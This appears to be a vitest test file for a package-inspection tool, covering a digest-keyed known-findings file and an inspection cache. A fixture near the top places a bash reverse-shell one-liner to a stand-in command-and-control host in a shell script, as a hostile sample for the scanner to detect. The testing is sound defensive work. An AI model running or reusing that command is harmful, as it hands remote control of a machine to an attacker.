import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { InspectionCache } from "./cache.ts";
import { inspectPackage } from "./inspect.ts";
import { readKnownFindings, withoutKnown } from "./known.ts";

const digest = "a".repeat(64);
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "known-"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const hostile = inspectPackage([
  { path: "a.sh", bytes: new TextEncoder().encode("bash -i >& /dev/tcp/c2.example.com/4444 0>&1\n") },
]);

describe("known findings", () => {
  const file = () => join(folder, "inspect.json");

  it("are those of the named rules, for this digest alone", () => {
    const { code } = hostile.findings[0]!;
    writeFileSync(file(), JSON.stringify({ known: { [digest]: [code] } }));
    const known = readKnownFindings(file());
    expect(withoutKnown(hostile.findings, known.get(digest)).known).toHaveLength(
      hostile.findings.filter((one) => one.code === code).length,
    );
    expect(withoutKnown(hostile.findings, known.get("b".repeat(64))).known).toEqual([]);
  });

  it("are none without a file", () => {
    expect(readKnownFindings(file()).size).toBe(0);
  });

  it.each([
    ["{", "config-not-json"],
    ["[]", "config-invalid"],
    ['{"known":{"abc":["x"]}}', "config-invalid"],
    [`{"known":{"${digest}":"x"}}`, "config-invalid"],
    [`{"known":{"${digest}":[1]}}`, "config-invalid"],
  ])("are refused in %s", (text, code) => {
    writeFileSync(file(), text);
    expect(() => readKnownFindings(file())).toThrow(expect.objectContaining({ code }));
  });

  it("are read from regular files only", () => {
    mkdirSync(file());
    expect(() => readKnownFindings(file())).toThrow(expect.objectContaining({ code: "config-unreadable" }));
  });
});

describe("the cache of inspections", () => {
  const path = () => join(folder, "cache", "inspections.json");
  const reopened = (build = "1") => new InspectionCache(path(), build).get(digest);

  it("keeps an inspection for the next run of the same build", () => {
    const cache = new InspectionCache(path(), "1");
    cache.set(digest, hostile);
    cache.save();
    expect(reopened()?.findings).toEqual(hostile.findings);
    expect(reopened("2")).toBeUndefined();
  });

  it("keeps what another process saved meanwhile", () => {
    const [first, second] = [new InspectionCache(path(), "1"), new InspectionCache(path(), "1")];
    second.get(digest);
    first.set(digest, hostile);
    first.save();
    second.set("b".repeat(64), hostile);
    second.save();
    expect(reopened()).toBeDefined();
  });

  it.each(["", "[]", "null", '{"build":"1","entries":[]}'])("is empty if its file is %j", (text) => {
    mkdirSync(join(folder, "cache"));
    writeFileSync(path(), text);
    expect(reopened()).toBeUndefined();
  });

  it("forgets entries of another shape", () => {
    const cache = new InspectionCache(path(), "1");
    cache.set(digest, hostile);
    cache.save();
    const damaged = readFileSync(path(), "utf8").replace('"severity":"high"', '"severity":"none"');
    writeFileSync(path(), damaged);
    expect(reopened()).toBeUndefined();
  });

  it("is not missed where nothing can be written", () => {
    writeFileSync(join(folder, "cache"), "a file");
    const cache = new InspectionCache(path(), "1");
    cache.set(digest, hostile);
    expect(() => cache.save()).not.toThrow();
  });
});
